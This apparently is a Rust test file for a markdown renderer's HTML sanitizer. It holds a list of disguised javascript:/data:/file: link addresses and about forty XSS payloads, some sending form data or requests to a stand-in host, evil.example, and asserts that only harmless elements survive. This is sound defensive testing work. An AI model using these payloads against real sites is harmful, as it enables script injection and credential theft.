//! Written texts with markup of their own: what a browser would make of them.

use kit::parts::prose;
use scraper::{ElementRef, Html};

/// Everything a browser would build from a written text.
fn built(markdown: &str) -> (Html, String) {
    let shown = prose(markdown).to_string();
    (Html::parse_document(&format!("<!doctype html><html lang=en><title>t</title><body>{shown}")), shown)
}

fn elements(page: &Html) -> impl Iterator<Item = ElementRef<'_>> {
    page.root_element().descendants().filter_map(ElementRef::wrap)
}

/// Text, lists, tables and links: nothing else may come out.
const HARMLESS: [&str; 24] = [
    "html",
    "head",
    "title",
    "body",
    "p",
    "br",
    "strong",
    "em",
    "ul",
    "ol",
    "li",
    "a",
    "blockquote",
    "h2",
    "h3",
    "h4",
    "code",
    "pre",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

/// The scheme that a browser finds in an address: it leaves out blanks before and breaks within.
fn scheme(address: &str) -> Option<String> {
    let plain: String = address.trim_start_matches(|c: char| c <= ' ').chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    let (scheme, _) = plain.split_once(':')?;
    let is_one =
        scheme.starts_with(|c: char| c.is_ascii_alphabetic()) && scheme.bytes().all(|b| b.is_ascii_alphanumeric() || b"+-.".contains(&b));
    is_one.then(|| scheme.to_ascii_lowercase())
}

/// T3: a link that would run something, however its address is disguised, loses its address; an honest one keeps it.
#[test]
fn links_that_run_something_lose_their_address() {
    assert_eq!(scheme("\u{1} Java\tScript:alert(1)").as_deref(), Some("javascript"), "what browsers do is known");
    assert_eq!((scheme("a/b:c"), scheme("java%09script:x")), (None, None));
    for address in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "  javascript:alert(1)",
        "\u{1}javascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6a;&#x61;vascript:alert(1)",
        "javascript&#58;alert(1)",
        "jav&#x09;ascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "DATA:image/svg+xml,<svg onload=alert(1)>",
        "file:///etc/passwd",
        "blob:https://x",
        "feed:javascript:alert(1)",
        "view-source:javascript:alert(1)",
    ] {
        let forms = [
            format!("[x]({address})"),
            format!("[x](<{address}>)"),
            format!("[x][r]\n\n[r]: <{address}>"),
            format!("<{address}>"),
            format!("<a href=\"{address}\">x</a>"),
            format!("![x]({address})"),
        ];
        for text in forms {
            let (page, shown) = built(&text);
            for href in elements(&page).filter_map(|element| element.attr("href").or_else(|| element.attr("src"))) {
                let scheme = scheme(href);
                assert!(matches!(scheme.as_deref(), None | Some("https" | "http" | "mailto")), "{text:?}: {shown}");
            }
        }
    }
    let (page, shown) = built("[x](https://example.org/a?b=c) <https://example.org> [m](mailto:a@example.org)");
    let kept: Vec<&str> = elements(&page).filter_map(|element| element.attr("href")).collect();
    assert_eq!(kept, ["https://example.org/a?b=c", "https://example.org", "mailto:a@example.org"], "{shown}");
}

/// Markup that is nested wrongly, foreign, active, or about the page around it.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ><img src=x onerror=alert(1)> ?>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<style>@import url(//evil.example/x.css);*{font-size:9999px;background:url(javascript:1)}</style>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<font size=9999>x</font>",
    "<a id=body name=attributes href=https://example.org class=button target=_top ping=//evil.example onclick=alert(1)>x</a>",
    "<img name=getElementById id=forms><input id=attributes>",
    "<p id=main onmouseover=alert(1) tabindex=1 autofocus onfocus=alert(1)>x",
    "<details open ontoggle=alert(1)>x",
    "<table background=javascript:alert(1)><td background=x>x",
    "<a href=\"https://example.org\" title='\"><img src=x onerror=alert(1)>'>x</a>",
    "[x](https://example.org '\"><img src=x onerror=alert(1)>')",
    "[x](https://example.org \"onmouseover=alert(1) x=\")",
    "`</code><script>alert(1)</script>`",
    "```\"><img src=x onerror=alert(1)>\nx\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
];

/// T4, T5, T6, T7: tags that are nested wrongly, foreign, active, that restyle the page or take the names of its parts leave
/// nothing but harmless elements, with no attribute but the address of a link and a title that is text.
#[test]
fn only_harmless_elements_remain_of_any_markup() {
    let mut nested: Vec<String> = HOSTILE.iter().map(|text| (*text).to_owned()).collect();
    for (one, other) in HOSTILE.iter().zip(HOSTILE.iter().skip(1)) {
        nested.push(format!("{one}{other}"));
        nested.push(format!("> - {one}\n\n{other}"));
    }
    for text in &nested {
        let (page, shown) = built(text);
        for element in elements(&page) {
            let value = element.value();
            assert!(HARMLESS.contains(&value.name()), "<{}> of {text:?}: {shown}", value.name());
            for (name, _) in value.attrs() {
                let is_known = matches!((element.value().name(), name), ("a", "href" | "rel") | (_, "title" | "lang"));
                assert!(is_known, "{name} of {text:?}: {shown}");
            }
        }
    }
}
